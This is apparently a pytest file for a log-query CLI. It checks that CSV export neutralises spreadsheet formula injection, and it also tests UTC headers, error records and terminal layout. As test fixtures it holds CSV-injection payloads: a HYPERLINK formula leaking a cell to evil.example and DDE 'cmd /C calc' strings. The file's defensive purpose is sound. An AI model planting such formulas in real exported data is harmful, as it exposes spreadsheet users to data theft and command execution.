"""What `atlens query` writes: CSV a spreadsheet can open safely, headers, time zones, error records."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import signal
import subprocess
from pathlib import Path

import pytest
from tests.cli.helpers import ATLENS, assert_usage_error, jsonl, make_event, run, unprivileged
from tests.core.follow_helpers import end_query, running_query

#: Log content a spreadsheet would run as a formula if a cell started with it.
FORMULAS = {
    "message": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "initiator": "+cmd|' /C calc'!A0",
    "target": "@SUM(1+1)*cmd|' /C calc'!A0",
    "action": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.log"
    event = make_event(FORMULAS["action"], 1, message=FORMULAS["message"],
                       initiator={"name": FORMULAS["initiator"], "id": "IBMid-1"},
                       target={"name": FORMULAS["target"], "id": "x"},
                       reason={"reasonCode": -5}, requestData={"note": "\tTAB=1", "ok": "fine, with \"quotes\""})
    path.write_bytes(jsonl([event]) + b"=1+1 is not an event\n")
    return path


def cells(result) -> list[list[str]]:
    assert result.returncode in (0, 1), result.stderr.decode()
    return list(csv.reader(io.StringIO(result.stdout.decode(), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell.lstrip("-").isdigit(), row


def test_csv_events_cannot_start_a_formula_in_a_spreadsheet(hostile):
    rows = cells(run(str(hostile), "--format", "csv"))
    assert_no_formula(rows)
    record = dict(zip(rows[0], rows[1]))
    # The text stays readable after the quote a spreadsheet hides.
    assert record["message"] == "'" + FORMULAS["message"]
    assert record["initiator"] == "'" + FORMULAS["initiator"]
    assert record["target"] == "'" + FORMULAS["target"]
    assert record["action"] == "'" + FORMULAS["action"]


def test_csv_fields_cannot_start_a_formula_and_negative_numbers_stay_numbers(hostile):
    rows = cells(run(str(hostile), "--fields", "action,initiator,code,requestData.note,requestData.ok", "--format", "csv"))
    assert_no_formula(rows)
    # A leading tab is shown escaped (a backslash starts the cell); -5 is a number, not a formula.
    assert rows[1] == ["'" + FORMULAS["action"], "'" + FORMULAS["initiator"], "-5", "\\tTAB=1", 'fine, with "quotes"']


def test_csv_stats_cannot_start_a_formula(hostile):
    rows = cells(run(str(hostile), "--stats", "target", "--stats", "action", "--format", "csv"))
    assert_no_formula(rows)
    assert rows[1][:2] + rows[1][4:] == ["1", "0", "'" + FORMULAS["target"], "'" + FORMULAS["action"]]


def test_jsonl_keeps_the_exact_text(hostile):
    result = run(str(hostile), "--format", "jsonl")
    event = json.loads(result.stdout)
    assert event["message"] == FORMULAS["message"]
    assert event["initiator"]["name"] == FORMULAS["initiator"]


@pytest.fixture
def log(tmp_path: Path) -> Path:
    path = tmp_path / "activity.log"
    path.write_bytes(jsonl([make_event("iam-am.policy.update", s) for s in (0, 10, 20)]))
    return path


@pytest.mark.parametrize(("since", "until"), [
    ("2026-11-20T10:00:15Z", "2026-11-20T10:00:05Z"),  # later
    ("2026-11-20T10:00:05Z", "2026-11-20T10:00:05Z"),  # the same moment: [since, until) holds nothing
    ("1h", "2h"),  # an hour ago is after two hours ago
])
def test_since_not_before_until_is_a_usage_error(log, since, until):
    err = assert_usage_error(run(str(log), "--since", since, "--until", until), "--since", "--until")
    assert since in err and until in err


def test_since_not_before_until_is_told_before_the_screen_opens(log):
    result = subprocess.run([*ATLENS, str(log), "--since", "1h", "--until", "2h"], capture_output=True,
                            stdin=subprocess.DEVNULL, timeout=20)
    assert_usage_error(result, "--since", "--until")


@pytest.mark.parametrize("option", ["--fields", "--stats"])
@pytest.mark.parametrize(("field", "reason"), [
    ("a[", '["key"]'),  # a bracket that opens no quoted key
    ("requestData]", '["key"]'),
    ('requestData["lock"', '"]"'),
    ("initiator name", "space"),  # two names where one was meant: not a field that no event has
])
def test_a_field_that_cannot_be_read_is_a_usage_error_with_the_reason(log, option, field, reason):
    err = assert_usage_error(run(str(log), option, field), option, reason)
    assert field in err


def test_quoted_keys_and_escapes_are_still_fields(tmp_path):
    path = tmp_path / "keys.log"
    path.write_bytes(jsonl([make_event("a.b.c", 1, requestData={"a[b": "x", "token.id": "y"})]))
    result = run(str(path), "--fields", 'requestData["a[b"],requestData.a\\[b,requestData["token.id"]', "--format", "csv")
    assert result.returncode == 0, result.stderr.decode()
    assert cells(result)[1] == ["x", "x", "y"]


# ----------------------------------------------------------------------------- headers, time zone, error records


@pytest.fixture
def bad_lines(tmp_path: Path):
    """A log with two events and, between them, lines that are not events."""
    def write(count: int) -> Path:
        path = tmp_path / f"bad-{count}.log"
        junk = [b"not json at all", b"=HYPERLINK(\"http://evil.example\")", b"# comment"][:count]
        path.write_bytes(jsonl([make_event("a.b.c", 1)]) + b"".join(j + b"\n" for j in junk) + jsonl([make_event("d.e.f", 2)]))
        return path
    return write


@pytest.mark.parametrize(("count", "words"), [
    (1, ["1 line read was not an event", "lists it"]),
    (3, ["3 lines read were not events", "lists them"]),
])
def test_lines_that_are_not_events_are_counted_in_good_grammar(bad_lines, count, words):
    path = bad_lines(count)
    for result in (run(str(path), "--count"),
                   subprocess.run([*ATLENS, "explain", str(path)], capture_output=True, timeout=60)):
        err = result.stderr.decode()
        assert result.returncode == 0, err
        for word in words:
            assert word in err, err


def test_errors_as_csv_have_a_header_and_one_cell_per_part(bad_lines):
    path = bad_lines(2)
    rows = cells(run(str(path), "--errors", "--format", "csv"))
    assert rows[0] == ["source", "line", "byte offset", "reason", "text"]
    assert [row[:2] for row in rows[1:]] == [[str(path), "2"], [str(path), "3"]]
    assert int(rows[2][2]) == path.read_bytes().index(b"=HYPERLINK")
    assert rows[1][4] == "not json at all"
    assert rows[2][4] == "'=HYPERLINK(\"http://evil.example\")"  # shown as text in a spreadsheet
    assert all(row[3] for row in rows[1:])


def test_errors_as_jsonl_keep_each_part(bad_lines):
    path = bad_lines(2)
    result = run(str(path), "--errors", "--format", "jsonl")
    records = [json.loads(line) for line in result.stdout.decode().splitlines()]
    assert [(r["source"], r["line"], r["text"]) for r in records] == [
        (str(path), 2, "not json at all"), (str(path), 3, '=HYPERLINK("http://evil.example")')]
    assert records[1]["offset"] == path.read_bytes().index(b"=HYPERLINK")
    assert all(r["reason"] for r in records)


def test_the_table_has_a_header_that_says_the_time_is_utc(log):
    lines = run(str(log)).stdout.decode().splitlines()
    assert lines[0].split() == ["time", "(UTC)", "severity", "outcome", "action", "initiator", "target", "message"]
    assert lines[1].startswith("2026-11-20 10:00:00.000")
    assert len(lines) == 4


def test_csv_time_column_says_utc(log):
    rows = cells(run(str(log), "--format", "csv"))
    assert rows[0][0] == "time (UTC)"
    assert rows[1][0] == "2026-11-20 10:00:00.000"


@pytest.mark.parametrize("fmt", ["table", "csv"])
def test_time_in_fields_is_the_same_utc_time_as_the_usual_columns(tmp_path, fmt):
    # Written one hour ahead of UTC: the event says 11:00+01:00, which is 10:00 UTC.
    path = tmp_path / "zoned.log"
    path.write_bytes(jsonl([make_event("a.b.c", None, eventTime="2026-11-20T11:00:05.25+01:00")]))
    usual = run(str(path), "--format", fmt).stdout.decode()
    chosen = run(str(path), "--fields", "time,action", "--format", fmt).stdout.decode()
    if fmt == "csv":
        usual_rows, chosen_rows = cells_of(usual), cells_of(chosen)
        assert chosen_rows[0] == ["time (UTC)", "action"]
        assert chosen_rows[1][0] == usual_rows[1][0] == "2026-11-20 10:00:05.250"
    else:
        assert chosen.splitlines()[0].split() == ["time", "(UTC)", "action"]
        assert chosen.splitlines()[1].startswith("2026-11-20 10:00:05.250  a.b.c")
        assert usual.splitlines()[1].startswith("2026-11-20 10:00:05.250")
    # jsonl is the exact form: the time as the event wrote it.
    exact = run(str(path), "--fields", "time", "--format", "jsonl").stdout.decode()
    assert json.loads(exact) == {"time": "2026-11-20T11:00:05.25+01:00"}


def test_stats_of_time_say_utc(tmp_path):
    path = tmp_path / "zoned.log"
    path.write_bytes(jsonl([make_event("a.b.c", None, eventTime="2026-11-20T11:00:05.25+01:00"),
                            make_event("a.b.c", None, eventTime="2026-11-20T10:00:05.250Z")]))
    rows = cells(run(str(path), "--stats", "time", "--format", "csv"))
    assert rows == [["count", "failures", "first seen (UTC)", "last seen (UTC)", "time (UTC)"],
                    ["2", "0", "2026-11-20 10:00:05.250", "2026-11-20 10:00:05.250", "2026-11-20 10:00:05.250"]]


def test_stats_table_prints_nothing_when_nothing_matched(log):
    result = run(str(log), "--stats", "action", "-q", "action:no.such")
    assert result.returncode == 1
    assert result.stdout == b""


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_followed_table_has_its_header_once_above_the_first_event(tmp_path):
    path = tmp_path / "live.log"
    path.write_bytes(jsonl([make_event("other.thing.read", 0)]))
    with running_query(str(path), "-q", "action:a.*", "--follow") as (proc, out, err):
        with path.open("ab") as fh:
            fh.write(jsonl([make_event("a.first.read", 1)]))
        lines = out.wait_count(2)
        with path.open("ab") as fh:
            fh.write(jsonl([make_event("a.second.read", 2)]))
        lines = out.wait_count(3)
        end_query(proc, signal.SIGINT, err)
    assert lines[0].split()[:3] == ["time", "(UTC)", "severity"]
    assert "a.first.read" in lines[1] and "a.second.read" in lines[2]


def on_terminal(*args: str, columns: int) -> tuple[subprocess.CompletedProcess, str]:
    """`atlens query ARGS` writing to a real terminal (a pseudo-terminal) so many columns wide:
    the run (stderr captured) and what the terminal received."""
    main, child = pty.openpty()
    try:
        result = subprocess.run([*ATLENS, "query", *args], stdout=child, stderr=subprocess.PIPE, timeout=60,
                                env={**os.environ, "COLUMNS": str(columns), "LINES": "24"})
        os.close(child)
        child = -1
        printed = b""
        while chunk := _read(main):
            printed += chunk
    finally:
        os.close(main)
        if child >= 0:
            os.close(child)
    assert result.returncode == 0, result.stderr.decode()
    return result, printed.decode()


def test_on_a_narrow_terminal_the_time_is_shortened_not_cut(log):
    # 60 columns: the time column is narrower than a full time.
    _, printed = on_terminal(str(log), columns=60)
    header, first, *_ = printed.splitlines()
    assert header.startswith("time (UTC)")
    assert first.startswith("11-20 10:00:00 ")  # month, day and time: no year, no cut "…"
    assert "…" not in first.split()[1]


def test_on_a_narrow_terminal_a_long_action_keeps_its_service_and_verb(tmp_path):
    path = tmp_path / "settings.log"
    path.write_bytes(jsonl([make_event("iam-identity.account-settings.update", 0),
                            make_event("iam-identity.account-settings.create", 1)]))
    _, printed = on_terminal(str(path), columns=60)
    header, update, create = printed.splitlines()
    start = header.index("action")
    actions = [line[start:].split()[0] for line in (update, create)]
    # Cut in its middle, as the table on screen cuts it: the two no longer look alike.
    assert actions == ["iam-identity…settings.update", "iam-identity…settings.create"]


def test_on_a_narrow_terminal_the_columns_left_out_are_named_on_stderr(log):
    result, printed = on_terminal(str(log), columns=60)
    header = printed.splitlines()[0]
    assert header.split()[-1] == "action"  # no room for the initiator, target and message
    said = result.stderr.decode()
    assert len(said.splitlines()) == 1, said
    assert "initiator, target and message" in said
    assert "--format csv" in said and "--fields" in said


def test_on_a_wide_terminal_no_column_is_said_to_be_left_out(log):
    result, printed = on_terminal(str(log), columns=200)
    assert printed.splitlines()[0].split()[-1] == "message"
    assert result.stderr == b""


def _read(fd: int) -> bytes:
    try:
        return os.read(fd, 65536)
    except OSError:  # the terminal's other end is closed: everything was read
        return b""


def test_errors_as_csv_and_jsonl_name_an_input_that_cannot_be_read(tmp_path):
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "good.jsonl").write_bytes(jsonl([make_event("a.b.c", 1)]) + b"not json\n")
    locked = logs / "locked.jsonl"
    locked.write_bytes(jsonl([make_event("d.e.f", 2)]))
    locked.chmod(0)
    try:
        as_csv = run(str(logs), "--errors", "--format", "csv", prefix=unprivileged())
        as_jsonl = run(str(logs), "--errors", "--format", "jsonl", prefix=unprivileged())
    finally:
        locked.chmod(0o644)
    assert as_csv.returncode == as_jsonl.returncode == 2  # an input could not be read
    rows = list(csv.reader(io.StringIO(as_csv.stdout.decode(), newline="")))
    assert rows[0] == ["source", "line", "byte offset", "reason", "text"]
    assert rows[1][:2] == [str(logs / "good.jsonl"), "2"] and rows[1][4] == "not json"
    assert rows[2] == [str(locked), "", "", "cannot be read: permission denied", ""]
    records = [json.loads(line) for line in as_jsonl.stdout.decode().splitlines()]
    assert records[1] == {"source": str(locked), "line": None, "offset": None,
                          "reason": "cannot be read: permission denied", "text": ""}


def test_csv_read_with_semicolons_cannot_start_a_formula_either(tmp_path):
    # Spreadsheets set up for a language whose decimal mark is a comma open CSV files split on ";":
    # the text after a ";" in a value then starts a cell of its own.
    path = tmp_path / "semicolon.log"
    path.write_bytes(jsonl([make_event("a.b.c", 1, message='ok;=HYPERLINK("http://evil.example") ; "+cmd|x" ;@SUM(1)')]))
    text = run(str(path), "--format", "csv").stdout.decode()
    for line in text.splitlines():
        for piece in line.split(";")[1:]:
            assert not piece.lstrip(' "').startswith(("=", "+", "-", "@")), line
    assert cells_of(text)[1][-1] == 'ok;\'=HYPERLINK("http://evil.example") ;\' "+cmd|x" ;\'@SUM(1)'
    spaced = tmp_path / "spaced.log"
    spaced.write_bytes(jsonl([make_event("a.b.c", 1, message="  =1+1", reason={"reasonCode": " -5"})]))
    assert cells(run(str(spaced), "--fields", "message,code", "--format", "csv"))[1] == ["'  =1+1", " -5"]  # a number, spaces or not
